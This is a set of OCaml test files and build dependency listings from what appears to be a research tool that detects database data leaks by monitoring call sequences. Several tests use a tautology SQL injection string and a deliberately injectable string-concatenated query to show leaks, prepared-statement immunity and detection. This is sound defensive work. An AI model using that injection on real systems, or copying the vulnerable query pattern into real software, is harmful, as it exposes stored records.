  (* tail drawn from the legitimate set *)
  for i = 5 to 9 do
    Alcotest.(check bool) "tail is legitimate" true
      (Array.exists (Symbol.equal w'.Window.obs.(i)) legit)
  done;
  (* the original window must not be mutated *)
  Alcotest.(check string) "input untouched" "j" (Symbol.name w.Window.obs.(9))

let test_s2_foreign_calls () =
  let rng = Mlkit.Rng.create 2 in
  let w' = Synthetic.a_s2 ~rng (base_window ()) in
  let foreign =
    Array.to_list w'.Window.obs
    |> List.filter (fun s ->
           let n = Symbol.name s in
           String.length n >= 5 && String.sub n 0 5 = "evil_")
  in
  Alcotest.(check bool) "at least one foreign call" true (List.length foreign >= 1)

let test_s3_burst () =
  let rng = Mlkit.Rng.create 3 in
  let w' = Synthetic.a_s3 ~rng (base_window ()) in
  (* some symbol now occurs at least 5 times *)
  let counts = Hashtbl.create 8 in
  Array.iter
    (fun s ->
      let k = Symbol.name s in
      Hashtbl.replace counts k (1 + Option.value ~default:0 (Hashtbl.find_opt counts k)))
    w'.Window.obs;
  let max_count = Hashtbl.fold (fun _ v acc -> max v acc) counts 0 in
  Alcotest.(check bool) "frequency inflated" true (max_count >= 5)

let test_batch_deterministic () =
  let mk () =
    Synthetic.batch ~rng:(Mlkit.Rng.create 9) ~legitimate:legit ~kind:`S1 ~count:20
      [ base_window () ]
  in
  let a = mk () and b = mk () in
  Alcotest.(check bool) "same seed, same anomalies" true
    (List.for_all2 (fun x y -> x.Window.obs = y.Window.obs) a b);
  Alcotest.check_raises "empty pool rejected"
    (Invalid_argument "Synthetic.batch: empty pool") (fun () ->
      ignore (Synthetic.batch ~rng:(Mlkit.Rng.create 1) ~legitimate:legit ~kind:`S2 ~count:1 []))

let () =
  Alcotest.run "attack"
    [
      ( "mutate",
        [
          Alcotest.test_case "insert in function" `Quick test_insert_in_function;
          Alcotest.test_case "append to function" `Quick test_append_to_function;
          Alcotest.test_case "insert in branch" `Quick test_insert_in_branch;
          Alcotest.test_case "rewrite call args" `Quick test_rewrite_call_args;
          Alcotest.test_case "rewrite strings (Fig. 1)" `Quick test_rewrite_strings;
          Alcotest.test_case "unknown function raises" `Quick test_unknown_function_raises;
        ] );
      ( "scenario",
        [
          Alcotest.test_case "source change round trips" `Quick test_scenario_source_change;
          Alcotest.test_case "run produces traces" `Quick test_scenario_run_traces;
          Alcotest.test_case "MITM rewrites only the wire" `Quick test_scenario_mitm;
        ] );
      ( "synthetic",
        [
          Alcotest.test_case "A-S1 replaces the tail" `Quick test_s1_replaces_tail;
          Alcotest.test_case "A-S2 inserts foreign calls" `Quick test_s2_foreign_calls;
          Alcotest.test_case "A-S3 inflates frequency" `Quick test_s3_burst;
          Alcotest.test_case "batch determinism and errors" `Quick test_batch_deterministic;
        ] );
    ]

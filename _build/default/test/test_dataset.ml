(* Tests for the dataset library: every subject application must parse,
   analyze and execute its test cases without run-time errors, and the
   generators must be deterministic. *)

module Pipeline = Adprom.Pipeline

let check_app ?(cases = 8) (app : Pipeline.app) =
  let app = { app with Pipeline.test_cases = List.filteri (fun i _ -> i < cases) app.Pipeline.test_cases } in
  let analysis = Pipeline.analyze_app app in
  Alcotest.(check bool)
    (app.Pipeline.name ^ ": pCTM invariants")
    true
    (Analysis.Ctm.conserved analysis.Analysis.Analyzer.pctm);
  List.iter
    (fun tc ->
      let trace, out = Pipeline.run_case ~analysis app tc in
      (match out.Runtime.Interp.status with
      | Ok () -> ()
      | Error msg -> Alcotest.failf "%s/%s: %s" app.Pipeline.name tc.Runtime.Testcase.name msg);
      Alcotest.(check bool)
        (app.Pipeline.name ^ ": trace non-empty")
        true
        (Array.length trace > 0))
    app.Pipeline.test_cases

let test_hospital () = check_app (Dataset.Ca_hospital.app ())
let test_banking () = check_app (Dataset.Ca_banking.app ())
let test_supermarket () = check_app (Dataset.Ca_supermarket.app ())
let test_grep () = check_app (Dataset.Sir.app1 ())
let test_gzip () = check_app (Dataset.Sir.app2 ())
let test_sed () = check_app (Dataset.Sir.app3 ())

let test_bash_scale () =
  check_app ~cases:4 (Dataset.Sir.app4 ~cases:4 ~spec:Dataset.Proggen.default ())

let test_labeled_outputs_exist () =
  (* Every DB app must have DDG-labeled output statements. *)
  List.iter
    (fun app ->
      let analysis = Pipeline.analyze_app app in
      Alcotest.(check bool)
        (app.Pipeline.name ^ " has labels")
        true
        (analysis.Analysis.Analyzer.taint.Analysis.Taint.labeled_blocks <> []))
    [ Dataset.Ca_hospital.app (); Dataset.Ca_banking.app (); Dataset.Ca_supermarket.app () ]

let test_proggen_deterministic () =
  let spec = Dataset.Proggen.default in
  Alcotest.(check string) "same spec, same program" (Dataset.Proggen.generate spec)
    (Dataset.Proggen.generate spec);
  let other = Dataset.Proggen.generate { spec with Dataset.Proggen.seed = spec.Dataset.Proggen.seed + 1 } in
  Alcotest.(check bool) "different seed, different program" true
    (other <> Dataset.Proggen.generate spec)

let test_proggen_parses_and_scales () =
  let small = Dataset.Proggen.generate Dataset.Proggen.default in
  let big = Dataset.Proggen.generate Dataset.Proggen.bash_like in
  let count_sites src =
    let analysis = Analysis.Analyzer.analyze (Applang.Parser.parse_program src) in
    List.length (Analysis.Ctm.calls analysis.Analysis.Analyzer.pctm)
  in
  Alcotest.(check bool) "bash-like is much larger" true (count_sites big > 2 * count_sites small)

let test_testcase_counts () =
  Alcotest.(check int) "hospital default cases" 63
    (List.length (Dataset.Ca_hospital.app ()).Pipeline.test_cases);
  Alcotest.(check int) "banking default cases" 73
    (List.length (Dataset.Ca_banking.app ()).Pipeline.test_cases);
  Alcotest.(check int) "supermarket default cases" 36
    (List.length (Dataset.Ca_supermarket.app ()).Pipeline.test_cases)

let test_site_coverage_bounds () =
  let app = Dataset.Sir.app1 ~cases:10 () in
  let analysis = Pipeline.analyze_app app in
  let traces =
    List.map (fun tc -> (tc, fst (Pipeline.run_case ~analysis app tc))) app.Pipeline.test_cases
  in
  let cov = Dataset.Sir.site_coverage analysis traces in
  Alcotest.(check bool) "coverage in (0, 1]" true (cov > 0.0 && cov <= 1.0);
  Alcotest.(check (float 0.0)) "no traces, no coverage" 0.0
    (Dataset.Sir.site_coverage analysis [])

let test_attack_catalog () =
  let cases = Dataset.Ca_attacks.all () in
  Alcotest.(check int) "five attacks" 5 (List.length cases);
  (* Each scenario must apply cleanly and produce runnable variants. *)
  List.iter
    (fun (c : Dataset.Ca_attacks.case) ->
      let app =
        {
          c.Dataset.Ca_attacks.app with
          Pipeline.test_cases =
            List.filteri (fun i _ -> i < 3) c.Dataset.Ca_attacks.app.Pipeline.test_cases;
        }
      in
      let traces = Attack.Scenario.run c.Dataset.Ca_attacks.scenario app in
      Alcotest.(check bool)
        (c.Dataset.Ca_attacks.label ^ " produces traces")
        true
        (List.for_all (fun (_, t) -> Array.length t > 0) traces))
    cases

let test_adversary_model_catalog () =
  let flavors = Dataset.Ca_attacks.adversary_model () in
  Alcotest.(check int) "eight flavors" 8 (List.length flavors);
  (* Every scenario applies and produces runnable traces on a slice. *)
  List.iter
    (fun (flavor, (c : Dataset.Ca_attacks.case)) ->
      let app =
        {
          c.Dataset.Ca_attacks.app with
          Pipeline.test_cases =
            List.filteri (fun i _ -> i < 2) c.Dataset.Ca_attacks.app.Pipeline.test_cases;
        }
      in
      let traces = Attack.Scenario.run c.Dataset.Ca_attacks.scenario app in
      Alcotest.(check bool) (flavor ^ " runs") true
        (List.for_all (fun (_, t) -> Array.length t > 0) traces))
    flavors

let test_banking_vulnerability () =
  (* The tautology through the vulnerable lookup must print every
     client, unlike an honest lookup. *)
  let app = Dataset.Ca_banking.app () in
  let analysis = Pipeline.analyze_app app in
  let run input =
    let tc = Runtime.Testcase.make ~input "probe" in
    let _, out = Pipeline.run_case ~analysis app tc in
    out.Runtime.Interp.leaked_values
  in
  let honest = run [ "1"; "105"; "0" ] in
  let poisoned = run [ "1"; Dataset.Ca_banking.tautology; "0" ] in
  Alcotest.(check bool) "tautology leaks much more" true (poisoned > 10 * honest)

(* Static/dynamic consistency: up to DB-output labels, every call the
   collector emits on a clean run must come from a static call site.
   (Labels can differ: a statically may-tainted site runs unlabeled when
   its arguments are dynamically clean, and vice versa never.) *)
let test_traces_within_static_alphabet () =
  List.iter
    (fun (app : Pipeline.app) ->
      let app =
        { app with Pipeline.test_cases = List.filteri (fun i _ -> i < 6) app.Pipeline.test_cases }
      in
      let analysis = Pipeline.analyze_app app in
      let strip s = Analysis.Symbol.strip_label (Analysis.Symbol.observable s) in
      let alphabet =
        List.fold_left
          (fun acc c -> Analysis.Symbol.Set.add (strip c) acc)
          Analysis.Symbol.Set.empty
          (Analysis.Ctm.calls analysis.Analysis.Analyzer.pctm)
      in
      List.iter
        (fun tc ->
          let trace, _ = Pipeline.run_case ~analysis app tc in
          Array.iter
            (fun (e : Runtime.Collector.event) ->
              let obs = strip e.Runtime.Collector.symbol in
              if not (Analysis.Symbol.Set.mem obs alphabet) then
                Alcotest.failf "%s: dynamic symbol %s outside the static alphabet"
                  app.Pipeline.name
                  (Analysis.Symbol.to_string obs))
            trace)
        app.Pipeline.test_cases)
    [
      Dataset.Ca_hospital.app (); Dataset.Ca_banking.app (); Dataset.Ca_supermarket.app ();
      Dataset.Sir.app1 (); Dataset.Sir.app3 (); Dataset.Web_portal.app ();
    ]

let prop_random_programs_run =
  QCheck2.Test.make ~name:"generated programs analyze and run cleanly" ~count:12
    QCheck2.Gen.(int_range 0 10_000)
    (fun seed ->
      let spec =
        { Dataset.Proggen.default with Dataset.Proggen.seed; functions = 8; alphabet = 20 }
      in
      let source = Dataset.Proggen.generate spec in
      let program = Applang.Parser.parse_program source in
      let analysis = Analysis.Analyzer.analyze program in
      Analysis.Ctm.conserved analysis.Analysis.Analyzer.pctm
      && List.for_all
           (fun tc ->
             let engine = Sqldb.Engine.create () in
             let out = Runtime.Interp.run ~analysis ~engine tc in
             out.Runtime.Interp.status = Ok ())
           (Dataset.Proggen.test_cases spec ~count:3))

let () =
  Alcotest.run "dataset"
    [
      ( "applications",
        [
          Alcotest.test_case "App_h hospital" `Quick test_hospital;
          Alcotest.test_case "App_b banking" `Quick test_banking;
          Alcotest.test_case "App_s supermarket" `Quick test_supermarket;
          Alcotest.test_case "App1 grep-like" `Quick test_grep;
          Alcotest.test_case "App2 gzip-like" `Quick test_gzip;
          Alcotest.test_case "App3 sed-like" `Quick test_sed;
          Alcotest.test_case "App4 generated" `Quick test_bash_scale;
          Alcotest.test_case "DB apps have DDG labels" `Quick test_labeled_outputs_exist;
          Alcotest.test_case "default test-case counts" `Quick test_testcase_counts;
        ] );
      ( "consistency",
        [
          Alcotest.test_case "traces stay within the static alphabet" `Quick
            test_traces_within_static_alphabet;
          QCheck_alcotest.to_alcotest prop_random_programs_run;
        ] );
      ( "generators",
        [
          Alcotest.test_case "proggen determinism" `Quick test_proggen_deterministic;
          Alcotest.test_case "proggen scales" `Quick test_proggen_parses_and_scales;
          Alcotest.test_case "site coverage bounds" `Quick test_site_coverage_bounds;
        ] );
      ( "attacks",
        [
          Alcotest.test_case "catalog applies" `Quick test_attack_catalog;
          Alcotest.test_case "adversary model catalog" `Quick test_adversary_model_catalog;
          Alcotest.test_case "banking vulnerability is real" `Quick test_banking_vulnerability;
        ] );
    ]

(* Integration tests reproducing the paper's inline scenarios:
   Fig. 1 (query selectivity widened), Fig. 2 (tautology injection),
   Fig. 9 (block-id labels distinguish look-alike prints), plus an
   end-to-end detection smoke test. *)

module Parser = Applang.Parser
module Analyzer = Analysis.Analyzer
module Symbol = Analysis.Symbol
module Interp = Runtime.Interp
module Testcase = Runtime.Testcase
module Collector = Runtime.Collector

let setup_items engine =
  ignore (Sqldb.Engine.exec engine "CREATE TABLE items (id, name)");
  for i = 1 to 20 do
    ignore
      (Sqldb.Engine.exec engine (Printf.sprintf "INSERT INTO items VALUES (%d, 'item%d')" i i))
  done

let run ?(input = []) ?(setup = setup_items) src =
  let analysis = Analyzer.analyze (Parser.parse_program src) in
  let engine = Sqldb.Engine.create () in
  setup engine;
  Interp.collect_trace ~analysis ~engine (Testcase.make ~input "t")

let names trace =
  Array.to_list (Array.map (fun (e : Collector.event) -> Symbol.name e.Collector.symbol) trace)

(* --- Fig. 1: widening the query's selectivity ------------------------------ *)

let fig1_source op =
  Printf.sprintf
    {|
      fun main() {
        let conn = db_connect("pg");
        let result = pq_exec(conn, "SELECT * FROM items WHERE id %s 10");
        let rows = pq_ntuples(result);
        for (let r = 0; r < rows; r = r + 1) {
          printf("%%s", pq_getvalue(result, r, 0));
        }
      }
    |}
    op

let test_fig1_selectivity () =
  let count_prints src =
    let trace, _ = run src in
    List.length (List.filter (( = ) "printf") (names trace))
  in
  let original = count_prints (fig1_source "=") in
  let attacked = count_prints (fig1_source ">=") in
  Alcotest.(check int) "original prints one row" 1 original;
  Alcotest.(check int) "widened query prints eleven rows" 11 attacked

(* --- Fig. 2: tautology-based SQL injection --------------------------------- *)

let fig2_source =
  {|
    fun main() {
      let conn = db_connect("mysql");
      let accno = scanf();
      let query = strcpy("SELECT * FROM items WHERE id='");
      query = strcat(query, accno);
      query = strcat(query, "';");
      if (mysql_query(conn, query) != 0) {
        printf("error");
        return;
      }
      let result = mysql_store_result(conn);
      let row = mysql_fetch_row(result);
      while (row != null) {
        printf("%s ", row[0]);
        row = mysql_fetch_row(result);
      }
    }
  |}

let test_fig2_call_sequence () =
  let trace_normal, _ = run ~input:[ "7" ] fig2_source in
  let trace_attack, _ = run ~input:[ "1' OR '1'='1" ] fig2_source in
  (* Prefix of the sequence matches the paper's listing. *)
  let prefix =
    [ "db_connect"; "scanf"; "strcpy"; "strcat"; "strcat"; "mysql_query";
      "mysql_store_result"; "mysql_fetch_row"; "printf" ]
  in
  let got = names trace_normal in
  Alcotest.(check (list string)) "normal prefix" prefix
    (List.filteri (fun i _ -> i < List.length prefix) got);
  let fetches trace = List.length (List.filter (( = ) "mysql_fetch_row") (names trace)) in
  Alcotest.(check int) "normal: one row + terminator" 2 (fetches trace_normal);
  Alcotest.(check int) "tautology: all rows + terminator" 21 (fetches trace_attack)

(* --- Fig. 9: block ids distinguish look-alike prints ------------------------ *)

let test_fig9_labels_distinguish_blocks () =
  (* Two code paths with the same (name-level) sequence; the labels of
     the Q-printfs differ because the block ids differ. *)
  let source which =
    Printf.sprintf
      {|
        fun main() {
          let conn = db_connect("pg");
          let r = pq_exec(conn, "SELECT name FROM items WHERE id = 1");
          let v = pq_getvalue(r, 0, 0);
          if (%s) {
            printf("%%s high\n", v);
          } else {
            printf("%%s low\n", v);
          }
          printf("done\n");
        }
      |}
      which
  in
  let labeled_of src =
    let trace, _ = run src in
    List.filter_map
      (fun (e : Collector.event) ->
        match e.Collector.symbol with
        | Symbol.Lib { label = Some bid; _ } -> Some bid
        | _ -> None)
      (Array.to_list trace)
  in
  let then_label = labeled_of (source "1 == 1") in
  let else_label = labeled_of (source "1 == 2") in
  Alcotest.(check int) "one labeled call each" 1 (List.length then_label);
  Alcotest.(check bool) "different block ids" true (then_label <> else_label)

(* --- end-to-end detection smoke --------------------------------------------- *)

let test_end_to_end_detection () =
  let app =
    {
      Adprom.Pipeline.name = "scenario";
      source = fig2_source;
      dbms = "MySQL";
      setup_db = setup_items;
      test_cases =
        List.init 12 (fun i ->
            Testcase.make ~input:[ string_of_int (1 + (i mod 20)) ] (Printf.sprintf "n%d" i));
    }
  in
  let ds = Adprom.Pipeline.collect app in
  let profile = Adprom.Pipeline.train ds in
  let classify input =
    let tc = Testcase.make ~input:[ input ] "probe" in
    let trace, _ = Adprom.Pipeline.run_case ~analysis:ds.Adprom.Pipeline.analysis app tc in
    Adprom.Detector.worst (List.map snd (Adprom.Detector.monitor profile trace))
  in
  Alcotest.(check bool) "normal input is normal" true (classify "5" = Adprom.Detector.Normal);
  Alcotest.(check bool) "tautology is a data leak" true
    (classify "1' OR '1'='1" = Adprom.Detector.Data_leak)

(* The monitored program's stdout must be unaffected by monitoring:
   requirement (1) of the paper (minimal modification). *)
let test_monitoring_transparent () =
  let src = fig2_source in
  let analysis = Analyzer.analyze (Parser.parse_program src) in
  let engine1 = Sqldb.Engine.create () in
  setup_items engine1;
  let out_plain =
    Interp.run ~analysis ~engine:engine1 (Testcase.make ~input:[ "3" ] "t")
  in
  let engine2 = Sqldb.Engine.create () in
  setup_items engine2;
  let collector, _ = Collector.adprom () in
  let out_monitored =
    Interp.run ~collector ~analysis ~engine:engine2 (Testcase.make ~input:[ "3" ] "t")
  in
  Alcotest.(check string) "same stdout with and without monitoring"
    out_plain.Interp.stdout out_monitored.Interp.stdout

let () =
  Alcotest.run "scenarios"
    [
      ( "paper figures",
        [
          Alcotest.test_case "Fig. 1: selectivity attack" `Quick test_fig1_selectivity;
          Alcotest.test_case "Fig. 2: tautology call sequences" `Quick test_fig2_call_sequence;
          Alcotest.test_case "Fig. 9: labels carry block ids" `Quick
            test_fig9_labels_distinguish_blocks;
        ] );
      ( "end to end",
        [
          Alcotest.test_case "detection" `Quick test_end_to_end_detection;
          Alcotest.test_case "monitoring is transparent" `Quick test_monitoring_transparent;
        ] );
    ]

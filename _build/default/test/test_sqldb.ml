(* Tests for the mini relational engine: SQL lexing/parsing, query
   evaluation, prepared statements, the LIKE matcher, and the client
   API — including the injection semantics the attacks rely on. *)

module Value = Sqldb.Value
module Lexer = Sqldb.Sql_lexer
module Parser = Sqldb.Sql_parser
module Ast = Sqldb.Sql_ast
module Engine = Sqldb.Engine
module Client = Sqldb.Client

let fresh () =
  let e = Engine.create () in
  ignore (Engine.exec e "CREATE TABLE users (id, name, age)");
  ignore (Engine.exec e "INSERT INTO users VALUES (1, 'alice', 30), (2, 'bob', 25), (3, 'carol', 35)");
  e

let rows_of = function
  | Engine.Rows r -> r.Engine.rows
  | Engine.Affected _ -> Alcotest.fail "expected rows"

let affected = function
  | Engine.Affected n -> n
  | Engine.Rows _ -> Alcotest.fail "expected an affected-count"

(* --- lexer / parser ----------------------------------------------------- *)

let test_sql_lexer () =
  Alcotest.(check bool) "case-insensitive keywords and quoted strings" true
    (Lexer.tokenize "select * from T where name = 'O''Brien'"
    = [
        Lexer.T_kw "SELECT"; Lexer.T_star; Lexer.T_kw "FROM"; Lexer.T_ident "t";
        Lexer.T_kw "WHERE"; Lexer.T_ident "name"; Lexer.T_eq; Lexer.T_str "O'Brien";
        Lexer.T_eof;
      ])

let test_sql_lexer_error () =
  (match Lexer.tokenize "'open" with
  | _ -> Alcotest.fail "expected lexer error"
  | exception Lexer.Error _ -> ());
  match Lexer.tokenize "a @ b" with
  | _ -> Alcotest.fail "expected lexer error"
  | exception Lexer.Error _ -> ()

let test_sql_parser_select () =
  match Parser.parse "SELECT id, name FROM users WHERE age >= 30 AND NOT name = 'bob' ORDER BY id DESC LIMIT 2" with
  | Ast.Select { projection = Ast.Columns [ "id"; "name" ]; table = "users";
                 where = Some _; order_by = Some ("id", Ast.Desc); limit = Some 2 } ->
      ()
  | _ -> Alcotest.fail "select shape"

let test_sql_parser_params () =
  let stmt = Parser.parse "SELECT * FROM t WHERE a = ? AND b = ?" in
  Alcotest.(check int) "two placeholders" 2 (Ast.param_count stmt)

let test_sql_parser_errors () =
  let fails src =
    match Parser.parse src with
    | _ -> Alcotest.failf "expected parse error on %S" src
    | exception Parser.Error _ -> ()
  in
  fails "SELECT FROM t";
  fails "INSERT t VALUES (1)";
  fails "DELETE t";
  fails "SELECT * FROM t WHERE";
  fails "SELECT * FROM t; SELECT"

(* --- engine ------------------------------------------------------------- *)

let test_engine_crud () =
  let e = fresh () in
  Alcotest.(check int) "three rows" 3 (Engine.row_count e "users");
  Alcotest.(check int) "update count" 1
    (affected (Engine.exec e "UPDATE users SET age = 26 WHERE name = 'bob'"));
  let r = rows_of (Engine.exec e "SELECT age FROM users WHERE name = 'bob'") in
  Alcotest.(check bool) "updated value" true (Value.equal r.(0).(0) (Value.Int 26));
  Alcotest.(check int) "delete count" 1 (affected (Engine.exec e "DELETE FROM users WHERE id = 1"));
  Alcotest.(check int) "two rows left" 2 (Engine.row_count e "users")

let test_engine_where_semantics () =
  let e = fresh () in
  ignore (Engine.exec e "INSERT INTO users (id, name) VALUES (4, 'dave')");
  (* dave's age is NULL: comparisons with NULL never match *)
  let r = rows_of (Engine.exec e "SELECT id FROM users WHERE age > 0") in
  Alcotest.(check int) "null age filtered" 3 (Array.length r);
  let r = rows_of (Engine.exec e "SELECT id FROM users WHERE age <> 30") in
  Alcotest.(check int) "null also excluded from <>" 2 (Array.length r)

let test_engine_order_limit () =
  let e = fresh () in
  let r = rows_of (Engine.exec e "SELECT name FROM users ORDER BY age DESC LIMIT 2") in
  Alcotest.(check string) "oldest first" "carol" (Value.to_string r.(0).(0));
  Alcotest.(check int) "limit applied" 2 (Array.length r)

let test_engine_count () =
  let e = fresh () in
  let r = rows_of (Engine.exec e "SELECT COUNT(*) FROM users WHERE age < 31") in
  Alcotest.(check bool) "count" true (Value.equal r.(0).(0) (Value.Int 2))

let test_engine_aggregates () =
  let e = fresh () in
  let one sql = (rows_of (Engine.exec e sql)).(0).(0) in
  Alcotest.(check bool) "sum" true (Value.equal (one "SELECT SUM(age) FROM users") (Value.Int 90));
  Alcotest.(check bool) "avg truncates" true
    (Value.equal (one "SELECT AVG(age) FROM users") (Value.Int 30));
  Alcotest.(check bool) "min" true (Value.equal (one "SELECT MIN(age) FROM users") (Value.Int 25));
  Alcotest.(check bool) "max" true (Value.equal (one "SELECT MAX(age) FROM users") (Value.Int 35));
  Alcotest.(check bool) "filtered sum" true
    (Value.equal (one "SELECT SUM(age) FROM users WHERE age > 28") (Value.Int 65));
  Alcotest.(check bool) "empty set is NULL" true
    (Value.equal (one "SELECT SUM(age) FROM users WHERE age > 99") Value.Null);
  (* NULLs are skipped *)
  ignore (Engine.exec e "INSERT INTO users (id, name) VALUES (9, 'noage')");
  Alcotest.(check bool) "null skipped" true
    (Value.equal (one "SELECT MIN(age) FROM users") (Value.Int 25))

let test_engine_errors () =
  let e = fresh () in
  let fails sql =
    match Engine.exec e sql with
    | _ -> Alcotest.failf "expected Sql_error on %S" sql
    | exception Engine.Sql_error _ -> ()
  in
  fails "SELECT * FROM nope";
  fails "SELECT nocolumn FROM users";
  fails "INSERT INTO users VALUES (1)";
  fails "CREATE TABLE users (id)"

let test_engine_prepared () =
  let e = fresh () in
  let stmt = Parser.parse "SELECT name FROM users WHERE id = ?" in
  (match Engine.execute ~params:[| Value.Int 2 |] e stmt with
  | Engine.Rows r -> Alcotest.(check string) "bound param" "bob" (Value.to_string r.Engine.rows.(0).(0))
  | Engine.Affected _ -> Alcotest.fail "expected rows");
  match Engine.execute e stmt with
  | _ -> Alcotest.fail "missing param must fail"
  | exception Engine.Sql_error _ -> ()

let test_like_match () =
  let cases =
    [
      ("%bo%", "bob", true);
      ("bo%", "bob", true);
      ("%ob", "bob", true);
      ("b_b", "bob", true);
      ("b_b", "boob", false);
      ("%", "", true);
      ("", "", true);
      ("a%z", "abcz", true);
      ("a%z", "abc", false);
      ("%a%a%", "banana", true);
    ]
  in
  List.iter
    (fun (pattern, text, expected) ->
      Alcotest.(check bool)
        (Printf.sprintf "LIKE %S %S" pattern text)
        expected
        (Engine.like_match ~pattern text))
    cases

(* The tautology injection must change result cardinality: the semantic
   heart of Attack 5 / Fig. 2. *)
let test_injection_cardinality () =
  let e = fresh () in
  let query input = Printf.sprintf "SELECT * FROM users WHERE name='%s'" input in
  Alcotest.(check int) "honest input: one row" 1
    (Array.length (rows_of (Engine.exec e (query "alice"))));
  Alcotest.(check int) "tautology: all rows" 3
    (Array.length (rows_of (Engine.exec e (query "x' OR '1'='1"))))

(* Prepared statements are immune: the payload stays a literal. *)
let test_prepared_immune_to_injection () =
  let e = fresh () in
  let stmt = Parser.parse "SELECT * FROM users WHERE name = ?" in
  match Engine.execute ~params:[| Value.Str "x' OR '1'='1" |] e stmt with
  | Engine.Rows r -> Alcotest.(check int) "no rows match the weird literal" 0 (Array.length r.Engine.rows)
  | Engine.Affected _ -> Alcotest.fail "expected rows"

(* --- client API ---------------------------------------------------------- *)

let test_client_pg_style () =
  let e = fresh () in
  let conn = Client.connect e Client.Postgres in
  let res = Client.exec conn "SELECT id, name FROM users ORDER BY id" in
  Alcotest.(check int) "ntuples" 3 (Client.ntuples res);
  Alcotest.(check int) "nfields" 2 (Client.nfields res);
  Alcotest.(check string) "getvalue" "alice" (Value.to_string (Client.getvalue res 0 1));
  Alcotest.(check bool) "out of range is NULL" true
    (Value.equal (Client.getvalue res 9 0) Value.Null);
  match Client.exec conn "SELECT * FROM nope" with
  | Client.Error _ -> ()
  | Client.Result _ | Client.Command_ok _ -> Alcotest.fail "expected an error result"

let test_client_mysql_style () =
  let e = fresh () in
  let conn = Client.connect e Client.Mysql in
  Client.set_last_result conn (Some (Client.exec conn "SELECT name FROM users ORDER BY id"));
  match Client.last_result conn with
  | Some res -> (
      match Client.cursor_of_result res with
      | Some cursor ->
          Alcotest.(check int) "num rows" 3 (Client.cursor_num_rows cursor);
          let names = ref [] in
          let rec drain () =
            match Client.fetch_row cursor with
            | Some row ->
                names := Value.to_string row.(0) :: !names;
                drain ()
            | None -> ()
          in
          drain ();
          Alcotest.(check (list string)) "cursor order" [ "alice"; "bob"; "carol" ]
            (List.rev !names)
      | None -> Alcotest.fail "expected a cursor")
  | None -> Alcotest.fail "expected a stored result"

let test_client_prepared () =
  let e = fresh () in
  let conn = Client.connect e Client.Postgres in
  match Client.prepare conn "UPDATE users SET age = ? WHERE id = ?" with
  | Error msg -> Alcotest.failf "prepare failed: %s" msg
  | Ok p -> (
      match Client.exec_prepared conn p [ Value.Int 40; Value.Int 3 ] with
      | Client.Command_ok 1 -> ()
      | _ -> Alcotest.fail "expected one updated row")

let prop_like_reflexive =
  QCheck2.Test.make ~name:"LIKE: every literal matches itself" ~count:200
    QCheck2.Gen.(string_size ~gen:(char_range 'a' 'e') (int_range 0 8))
    (fun s -> Engine.like_match ~pattern:s s)

let () =
  Alcotest.run "sqldb"
    [
      ( "parsing",
        [
          Alcotest.test_case "lexer" `Quick test_sql_lexer;
          Alcotest.test_case "lexer errors" `Quick test_sql_lexer_error;
          Alcotest.test_case "select" `Quick test_sql_parser_select;
          Alcotest.test_case "placeholders" `Quick test_sql_parser_params;
          Alcotest.test_case "parse errors" `Quick test_sql_parser_errors;
        ] );
      ( "engine",
        [
          Alcotest.test_case "crud" `Quick test_engine_crud;
          Alcotest.test_case "NULL comparison semantics" `Quick test_engine_where_semantics;
          Alcotest.test_case "order by / limit" `Quick test_engine_order_limit;
          Alcotest.test_case "count(*)" `Quick test_engine_count;
          Alcotest.test_case "aggregates" `Quick test_engine_aggregates;
          Alcotest.test_case "semantic errors" `Quick test_engine_errors;
          Alcotest.test_case "prepared parameters" `Quick test_engine_prepared;
          Alcotest.test_case "LIKE matcher" `Quick test_like_match;
          Alcotest.test_case "tautology changes cardinality" `Quick test_injection_cardinality;
          Alcotest.test_case "prepared immune to injection" `Quick test_prepared_immune_to_injection;
          QCheck_alcotest.to_alcotest prop_like_reflexive;
        ] );
      ( "client",
        [
          Alcotest.test_case "libpq style" `Quick test_client_pg_style;
          Alcotest.test_case "mysql style" `Quick test_client_mysql_style;
          Alcotest.test_case "prepared" `Quick test_client_prepared;
        ] );
    ]

test/test_hmm.ml: Alcotest Array Float Hmm List Mlkit Printf QCheck2 QCheck_alcotest

test/test_extensions.ml: Adprom Alcotest Analysis Applang Array Filename Lazy List Mlkit Option Printf Runtime Sqldb String Sys

test/test_sqldb.ml: Alcotest Array List Printf QCheck2 QCheck_alcotest Sqldb

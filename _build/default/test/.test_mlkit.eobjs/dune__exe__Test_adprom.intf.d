test/test_adprom.mli:

test/test_forecast.ml: Alcotest Analysis Applang Array Lazy List Mlkit Printf QCheck2 QCheck_alcotest String

test/test_analysis.ml: Alcotest Analysis Applang List String

test/test_webapp.mli:

test/test_adprom.ml: Adprom Alcotest Analysis Applang Array Float Hmm Lazy List Mlkit Printf Runtime Sqldb String

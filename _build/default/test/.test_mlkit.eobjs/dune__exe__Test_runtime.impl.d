test/test_runtime.ml: Alcotest Analysis Applang Array Buffer List Printf QCheck2 QCheck_alcotest Runtime Sqldb String

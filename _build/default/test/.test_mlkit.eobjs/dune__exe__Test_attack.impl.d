test/test_attack.ml: Adprom Alcotest Analysis Applang Array Attack Hashtbl List Mlkit Option Runtime Sqldb String

test/test_webapp.ml: Adprom Alcotest Analysis Applang Dataset Lazy List Printf Runtime Sqldb String

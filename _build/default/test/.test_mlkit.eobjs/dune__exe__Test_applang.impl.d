test/test_applang.ml: Alcotest Applang Dataset List Option QCheck2 QCheck_alcotest String

test/test_mlkit.ml: Alcotest Array Float List Mlkit Printf QCheck2 QCheck_alcotest

test/test_dataset.ml: Adprom Alcotest Analysis Applang Array Attack Dataset List QCheck2 QCheck_alcotest Runtime Sqldb

test/test_scenarios.ml: Adprom Alcotest Analysis Applang Array List Printf Runtime Sqldb

(* Tests for the HMM library: validation, forward vs brute-force
   enumeration, Viterbi vs brute force, Baum-Welch monotonicity and
   convergence. *)

module Matrix = Mlkit.Matrix
module Rng = Mlkit.Rng

let tiny () =
  (* 2 states, 3 symbols; hand-checked numbers. *)
  Hmm.create
    ~a:(Matrix.of_arrays [| [| 0.7; 0.3 |]; [| 0.4; 0.6 |] |])
    ~b:(Matrix.of_arrays [| [| 0.5; 0.4; 0.1 |]; [| 0.1; 0.3; 0.6 |] |])
    ~pi:[| 0.6; 0.4 |]

(* Brute force P(O) by enumerating all state paths. *)
let brute_force_likelihood (t : Hmm.t) obs =
  let len = Array.length obs in
  let rec paths depth =
    if depth = 0 then [ [] ]
    else List.concat_map (fun p -> List.init t.Hmm.n (fun s -> s :: p)) (paths (depth - 1))
  in
  List.fold_left
    (fun acc path ->
      let path = Array.of_list path in
